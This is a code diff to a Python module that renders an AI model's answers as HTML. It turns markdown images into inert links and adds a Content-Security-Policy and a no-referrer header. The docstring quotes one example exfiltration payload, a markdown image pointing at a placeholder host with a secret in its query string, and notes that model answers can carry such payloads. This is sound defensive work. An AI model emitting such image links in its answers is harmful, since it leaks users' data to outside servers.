@@ -1,15 +1,22 @@
 """Answers as rendered HTML pages (the "open as HTML" buttons, SPEC §3).
 
 Markdown is rendered with raw HTML switched off: a model's answer is untrusted
-text, so any HTML in it shows as text instead of running in the page.
+text, so any HTML in it shows as text instead of running in the page. Images
+become plain links: loading `![x](https://host/pixel?secret)` would let an answer
+report back to a server the moment it is viewed, so nothing is fetched unless the
+user clicks. The standalone page also carries a Content-Security-Policy that
+forbids every remote load, in case some other element slips through.
 """
 
 from __future__ import annotations
 
 import html
-from typing import Sequence
+from collections.abc import Sequence
+from typing import Any
 
 from markdown_it import MarkdownIt
+from markdown_it.renderer import RendererHTML
+from markdown_it.token import Token
 
 from samantha.ui.session import AnswerEntry
 
@@ -25,10 +32,25 @@ blockquote { border-left: 3px solid #555; margin-left: 0; padding-left: 1rem; co
 """
 
 
+# The standalone page may use only its own inline style: no scripts, no images, fonts or frames from anywhere.
+PAGE_POLICY = "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"
+
+
+def _image_as_link(renderer: RendererHTML, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
+    """An image is shown as a link to it (alt text and address), never loaded."""
+    token = tokens[idx]
+    source = str(token.attrGet("src") or "")
+    alt = renderer.renderInlineAsText(token.children or [], options, env) or "image"
+    label = html.escape(f"[image: {alt}] {source}")
+    return f'<a class="image-link" href="{html.escape(source)}" rel="noreferrer noopener">{label}</a>'
+
+
 def _renderer() -> MarkdownIt:
-    return MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False}).enable(
+    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False}).enable(
         ["table", "strikethrough"]
     )
+    md.add_render_rule("image", _image_as_link)
+    return md
 
 
 def render_markdown(text: str) -> str:
@@ -51,6 +73,8 @@ def answers_page(entries: Sequence[AnswerEntry], title: str) -> str:
     """A standalone HTML document of the answers, for a new browser tab."""
     return (
         "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\">"
+        f'<meta http-equiv="Content-Security-Policy" content="{PAGE_POLICY}">'
+        '<meta name="referrer" content="no-referrer">'
         f"<title>{html.escape(title)}</title><style>{PAGE_STYLE}</style></head>"
         f"<body><h1>{html.escape(title)}</h1>\n{answers_fragment(entries)}\n</body></html>\n"
     )
